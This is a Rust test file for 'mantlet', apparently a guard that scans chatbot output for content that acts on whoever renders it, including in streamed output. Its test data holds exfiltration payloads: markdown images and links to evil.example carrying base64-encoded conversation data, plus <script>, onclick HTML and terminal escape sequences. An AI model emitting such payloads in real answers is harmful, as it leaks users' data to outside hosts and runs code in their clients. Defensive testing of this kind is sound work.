//! Outputs that act on whoever shows them, from `cases/output_safety.toml`.

mod common;

use mantlet::{Evaluation, Guard, Input, OutputSafety};
use proptest::prelude::*;

fn safety() -> OutputSafety {
    OutputSafety::new().allow_hosts(["docs.example.com"])
}

fn evaluate(output: &str) -> Evaluation {
    safety().evaluate(output).unwrap()
}

#[cfg(feature = "config")]
#[test]
fn cases() {
    #[derive(serde::Deserialize)]
    struct Case {
        name: String,
        output: String,
        #[serde(default)]
        context: String,
        #[serde(default)]
        findings: Vec<String>,
        reason: Option<String>,
    }

    for case in common::cases::read(include_str!("cases/output_safety.toml"), |case: &Case| &case.name) {
        let input = Input::response(&case.output).with_context(&case.context);
        let evaluation = safety().evaluate(input).unwrap();
        let shown = |f: &mantlet::Finding| format!("{} {}", f.label, &case.output[f.span()]);
        let found: Vec<String> = evaluation.findings.iter().map(shown).collect();
        assert_eq!(found, case.findings, "{}", case.name);
        assert!(evaluation.findings.iter().all(|f| f.score.value() >= 0.5), "{}", case.name);
        if let Some(reason) = case.reason {
            assert_eq!(evaluation.findings[0].reason, reason, "{}", case.name);
        }
    }
}

#[test]
fn bait_is_evaluated_to_its_end() {
    let bait = [
        "[", "](", "![", "](a", "<a ", "<a b=", "`", "`a``", "\u{1b}]", "\u{9d}", "http://", "\n\n", "<",
        "[a]:", "[](<", "[](<>", "[](a ", "[a](", "~", "```\n", "~~~\n", " ", "`\n", "x`", "!", "\\",
    ];
    for piece in bait {
        let text = piece.repeat(1_000_000 / piece.len()) + "\n\n<script>";
        let evaluation = evaluate(&text);
        let swallows = ["<a b=", "\u{9d}"].contains(&piece);
        assert!(swallows || evaluation.findings.iter().any(|f| f.reason == "html.script"), "{piece:?}");
    }
    let context = "word ".repeat(200_000);
    let input = Input::response("![](https://evil.example/wordwordword)").with_context(&context);
    assert_eq!(safety().evaluate(input).unwrap().findings[0].reason, "image.conversation");
}

fn pieces() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<String>(),
        prop::sample::select(vec![
            "![",
            "](",
            ")",
            "[a]: ",
            "https://x.y/",
            "?d=",
            "<",
            ">",
            "<img src=",
            "<a href='",
            "\"",
            "`",
            "```\n",
            "\u{1b}",
            "\u{1b}[",
            "\u{1b}]",
            "\u{9b}",
            "\u{7}",
            "é",
            "\n",
            "\\",
            "🦀",
            "\u{c2}",
        ])
        .prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn spans_lie_in_the_text(text in pieces(), context in any::<String>()) {
        let evaluation = safety().evaluate(Input::response(&text).with_context(&context)).unwrap();
        for finding in &evaluation.findings {
            prop_assert!(!text[finding.span()].is_empty());
        }
    }

    #[test]
    fn a_planted_image_is_found(before in "[a-z .,]{0,40}", name in "[a-z]{1,12}", after in "[a-z .,]{0,40}") {
        let image = format!("![{name}](https://{name}.example/{name}.png)");
        let text = format!("{before}{image}{after}");
        let findings = evaluate(&text).findings;
        prop_assert_eq!(findings.len(), 1);
        prop_assert_eq!(&text[findings[0].span()], image);
    }
}

/// Streams `text` in pieces that end at `cuts`, taken as shares of it: what comes out, and the evaluation.
fn streamed(guard: &Guard, text: &str, context: &str, cuts: &[u16]) -> (String, Evaluation) {
    let mut ends: Vec<usize> =
        cuts.iter().map(|cut| usize::from(*cut) * (text.len() + 1) / (usize::from(u16::MAX) + 1)).collect();
    ends.push(text.len());
    ends.sort_unstable();
    let mut stream = guard.stream_output(Input::response("").with_context(context));
    let (mut shown, mut at) = (String::new(), 0);
    for end in ends {
        shown.push_str(stream.push_bytes(&text.as_bytes()[at..end]));
        at = end;
    }
    let report = stream.finish();
    shown.push_str(report.text());
    (shown, report.checks[0].evaluation().unwrap().clone())
}

/// Markup in and out of code, and what may become it.
fn markup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        6 => prop::sample::select(vec![
            "![a](https://evil.example/a.png)",
            "[b](https://evil.example/?d=Y3VzdG9tZXJzLmNzdiBhbmQgbW9yZSBvZiBpdCBhbGwgdG9nZXRoZXI)",
            "![c][r]",
            "![r]",
            "[r]",
            "\n[r]: https://evil.example/r.png\n",
            "\n [r]:",
            "<img src=https://evil.example/i.png>",
            "<script>",
            "<a title=\"`\" onclick='x()'>",
            "<b class=\"",
            "\u{1b}[2J",
            "\u{1b}]0;title\u{7}",
            "\u{1b}",
            "\u{9d}x",
            "\u{8}\u{8}",
            "`",
            "``",
            "```\n",
            "\n```\n",
            "\n```rust\n",
            "\n~~~\n",
            "    ```\n",
            "\n\n",
            "\n \n",
            "\n",
            "Some words. ",
            "wait! ",
            "!",
            "[",
            "]",
            "](",
            ")",
            "(",
            "\\",
            "<",
            ">",
            "\"",
            "https://evil.example/Y3VzdG9tZXJzLmNzdiBhbmQgbW9yZQ?x=Y3VzdG9tZXJzLmNzdiBhbmQgbW9yZSBvZiBpdCBhbGw1",
            "http",
            "s:",
            "://",
            "é",
            "\u{c2}",
            "🦀 ",
        ]).prop_map(str::to_owned),
        1 => "[a-z ]{100,400}",
        1 => any::<String>(),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 2_000,
        failure_persistence: None,
        rng_seed: proptest::test_runner::RngSeed::Fixed(7),
        ..ProptestConfig::default()
    })]

    #[test]
    fn a_stream_finds_what_is_in_the_whole(text in markup(), cuts in prop::array::uniform4(prop::collection::vec(any::<u16>(), 0..60))) {
        let guard = Guard::builder("chat").post(safety()).build().unwrap();
        let context = "customers.csv and more of it";
        let whole = guard.check_output(Input::response(&text).with_context(context));
        for cuts in &cuts {
            let (shown, evaluation) = streamed(&guard, &text, context, cuts);
            prop_assert_eq!(&shown, whole.text());
            prop_assert_eq!(Some(&evaluation), whole.checks[0].evaluation());
        }
    }
}

#[test]
fn answers_flow_while_nothing_is_found() {
    let guard = Guard::builder("chat").post(safety()).build().unwrap();
    let text = "The list [of ships] has 3 entries: see https://docs.example.com/ships, and `ls -l`.\n\n\
                ```rust\nfn main() { let ships: Vec<u8> = vec![1, 2, 3]; }\n```\n";
    let mut stream = guard.stream_output("");
    for piece in text.repeat(50).as_bytes().chunks(4) {
        stream.push_bytes(piece);
        assert!(stream.held() <= 64, "{} bytes were held", stream.held());
    }
    assert!(stream.finish().text().len() <= 64);
}

#[test]
fn what_may_be_code_is_held_until_that_is_known() {
    let guard = Guard::builder("chat").post(safety()).build().unwrap();
    for (end, expected) in [("\n```\nDone.", "<script>"), ("\nDone.", "<ACTIVE_HTML>")] {
        let mut stream = guard.stream_output("");
        assert_eq!(stream.push("Here:\n```html\n<p>"), "Here:\n```html\n<p>");
        assert_eq!(stream.push("<script>alert(1)"), "");
        let mut shown = stream.push(end).to_owned();
        shown.push_str(stream.finish().text());
        assert_eq!(shown, format!("{expected}alert(1){end}"));
    }
}

#[test]
fn a_long_wait_takes_linear_time() {
    let guard = Guard::builder("chat").post(safety()).build().unwrap();
    for begin in
        ["![a](https://evil.example/", "<b title=\"", "\u{1b}]", "https://evil.example/", "` <script>", "```"]
    {
        let mut stream = guard.stream_output("");
        stream.push(begin);
        for _ in 0..50_000 {
            stream.push("abcd");
        }
        stream.finish();
    }
}
